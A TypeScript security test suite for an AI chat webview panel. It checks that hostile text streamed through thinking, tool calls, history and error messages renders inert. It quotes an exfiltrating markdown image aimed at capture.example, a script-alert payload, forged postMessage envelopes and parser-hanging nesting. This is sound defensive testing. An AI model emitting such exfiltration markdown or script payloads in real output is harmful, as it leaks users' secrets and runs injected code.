import assert from 'node:assert/strict';
import { AppError } from '../../src/common/errors.ts';
import { foldParts } from '../../src/common/foldParts.ts';
import { emptyTurn } from '../../src/common/turn.ts';
import { drawn } from '../support/webview/drawn.ts';
import { hiddenOnPage, hostileText } from '../support/webview/hostileText.ts';
import {
	assistantMessage,
	detailsOf,
	draftFixture,
	resultFixture,
	userMessage,
	runFixture,
} from '../support/webview/workshopFixtures.ts';
import { HistoryFixture } from '../support/webview/workshopHistory.ts';
import type { WorkshopHost } from '../support/webview/workshopHost.ts';
import { workshopPages } from '../support/webview/workshopPages.ts';

/** Everything that could load, run, style or submit. */
const forbidden =
	'img, picture, source, video, audio, image, iframe, object, embed, base, form, style, [href], [src], [srcset], [style*="url"], [ping], [onerror], [onload], [onmouseover]';

async function assertInert(host: WorkshopHost): Promise<void> {
	const found = await host.page
		.locator('#root')
		.evaluate(
			(root, selector) => [...root.querySelectorAll(selector)].map((element) => element.outerHTML.slice(0, 120)),
			forbidden,
		);
	assert.deepEqual(found, []);
	assert.deepEqual(await host.page.locator('#root').evaluate(hiddenOnPage), [], 'a reader sees what is there');
	assert.deepEqual(host.requests, []);
	assert.deepEqual(host.problems, []);
}

describe('hostile words in the Workshop panel', () => {
	const open = workshopPages();
	let host: WorkshopHost;

	it('load and run nothing while they stream in byte by byte, in thinking, text and tool calls [attack 4]', async function () {
		this.timeout(60_000);
		const streaming = assistantMessage(2, emptyTurn, { status: 'streaming' });
		const run = runFixture({ model: hostileText });
		host = await open({ messages: [userMessage(1, hostileText), streaming], runs: [run] });
		for (const character of hostileText) {
			host.stream('2', { type: 'thinking', id: 't', text: character });
		}
		host.stream('2', { type: 'tool-call', id: 'c', name: hostileText, input: { query: hostileText } });
		host.stream('2', { type: 'tool-result', id: 'c', name: hostileText, summary: hostileText });
		for (const character of hostileText) {
			host.stream('2', { type: 'text', id: 'a', text: character });
		}
		await host.page.locator('.answer td').first().waitFor();
		await assertInert(host);
		host.stream('2', {
			type: 'error',
			code: 'bad-response',
			message: hostileText,
			retryable: true,
			detail: hostileText,
		});
		host.stream('2', { type: 'done', stopReason: 'error' });
		await host.page.locator('.note-error').waitFor();
		for (const summary of await host.page.locator('.block-summary').all()) {
			await summary.click();
		}
		await host.page.locator('.note-error summary').click();
		await drawn(host.page);
		await assertInert(host);
		const answer = await host.page.locator('.answer').innerText();
		assert.match(
			answer,
			/!\[a\]\(https:\/\/capture\.example\/\?d=secret\)/,
			'a picture is shown as it was written',
		);
		assert.match(answer, /<script>alert\(1\)<\/script>/);
	});

	it('load and run nothing in history, names, notes and results [attack 5]', async () => {
		const result = resultFixture({
			query: hostileText,
			topic: hostileText,
			model: hostileText,
			notes: hostileText,
		});
		host = await open(
			{
				draft: draftFixture({
					name: hostileText,
					description: hostileText,
					parentPromptName: hostileText,
					commitBlocked: hostileText,
				}),
				topics: [{ name: hostileText, articles: 1 }],
				models: { chatModel: hostileText, testModel: hostileText, thinking: 'low' },
				latestId: 'test-1',
				resultCount: 1,
				recentQueries: [hostileText],
			},
			{
				result: async () => detailsOf(result, foldParts([{ type: 'text', id: 'a', text: hostileText }])),
				history: new HistoryFixture([result]).answer,
				update: async () => {
					throw new AppError('validation', hostileText, { info: { field: 'draftName' } });
				},
			},
		);
		await host.page.getByRole('button', { name: 'Edit the draft name' }).click();
		await host.page.getByRole('textbox', { name: 'Draft name' }).fill(hostileText.slice(0, 200));
		await host.page.keyboard.press('Enter');
		await host.page.locator('#error-name').waitFor();
		for (const tab of ['Test', 'History', 'Chat']) {
			await host.page.getByRole('tab', { name: tab }).click();
			await host.page.getByRole('tab', { name: tab, selected: true }).waitFor();
			await drawn(host.page);
			await assertInert(host);
		}
	});

	it('offers https, mailto and articles as links, to the host only; other schemes are text [attack 7]', async () => {
		const text =
			'[web](https://known.example@other.example/a) [mail](mailto:a@b.example) [art](article:t/x.md) [cmd](command:x) <vscode://x>';
		const turn = foldParts([{ type: 'text', id: 'a', text }]);
		host = await open({ messages: [assistantMessage(2, turn)] });
		const links = host.page.locator('.answer').getByRole('link');
		assert.deepEqual(await links.allInnerTexts(), ['web', 'mail', 'art']);
		await links.first().click();
		assert.deepEqual(await host.waitForCall('openLink'), { url: 'https://known.example@other.example/a' });
		await links.nth(2).focus();
		await host.page.keyboard.press('Enter');
		await host.expectCall('openLink', { url: 'article:t/x.md' });
		await links.nth(1).click({ button: 'middle' });
		assert.equal(host.page.context().pages().length, 1);
		await assertInert(host);
	});

	it('takes hostile nesting and an unclosed fence without hanging [attack 6]', async () => {
		const walls = [
			'>'.repeat(10_000),
			'- '.repeat(10_000),
			'['.repeat(10_000),
			'*a **b '.repeat(3_000),
			`\`\`\`\n${'x\n'.repeat(20_000)}`,
		];
		host = await open({
			messages: walls.map((text, index) =>
				assistantMessage(index + 1, foldParts([{ type: 'text', id: 'a', text }])),
			),
		});
		await host.page.locator('.code-piece').nth(300).waitFor({ state: 'attached' });
		await host.page.getByRole('textbox', { name: 'Message' }).fill('still here');
		await assertInert(host);
	});

	it('ignores what is no envelope [attack 8]', async () => {
		host = await open({ messages: [userMessage(1, 'Hello')] });
		for (const forged of [
			null,
			'x',
			7,
			{},
			{ kind: 'event' },
			{ kind: 'reply', id: 99, result: {} },
			{ kind: 'event', name: '__proto__', data: {}, seq: 1 },
		]) {
			await host.page.evaluate((data) => window.postMessage(data, '*'), forged);
		}
		await host.page.getByText('Hello').waitFor();
		// What comes later is answered: the forged ones were read before.
		host.server.send('show', 'test');
		await host.page.getByRole('textbox', { name: 'Test question' }).waitFor();
		assert.deepEqual(host.problems, []);
	});
});
